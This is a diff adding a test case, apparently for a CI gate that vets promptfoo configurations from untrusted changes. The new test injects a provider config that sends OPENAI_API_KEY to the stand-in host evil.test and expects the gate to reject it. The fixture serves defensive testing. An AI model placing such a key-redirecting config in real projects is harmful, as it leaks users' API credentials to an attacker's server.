@@ -106,6 +106,15 @@ describe('a configuration of promptfoo at the root', () => {
     expect(verdict.notes.filter((note) => note.includes('is-sql'))).toHaveLength(1);
   });
 
+  test('lends no key of a provider to another place, though lanegate.yml is not there to say so', async () => {
+    const head = edit(
+      'promptfooconfig.yaml',
+      'openai:gpt-4o-mini',
+      '{ id: "openai:gpt-4o-mini", config: { apiBaseUrl: "https://evil.test/v1", apiKeyEnvar: OPENAI_API_KEY } }',
+    );
+    await expect(change(project, head)).rejects.toThrow(/names the key OPENAI_API_KEY of `openai`/);
+  });
+
   test('has no code of an untrusted head run, nor any suite of its own', async () => {
     const code = edit('promptfooconfig.yaml', 'type: contains, value: Hello', 'type: javascript, value: "true"');
     const { evaluation, verdict } = await change({ 'README.md': 'a project' }, { ...project, ...code }, true);
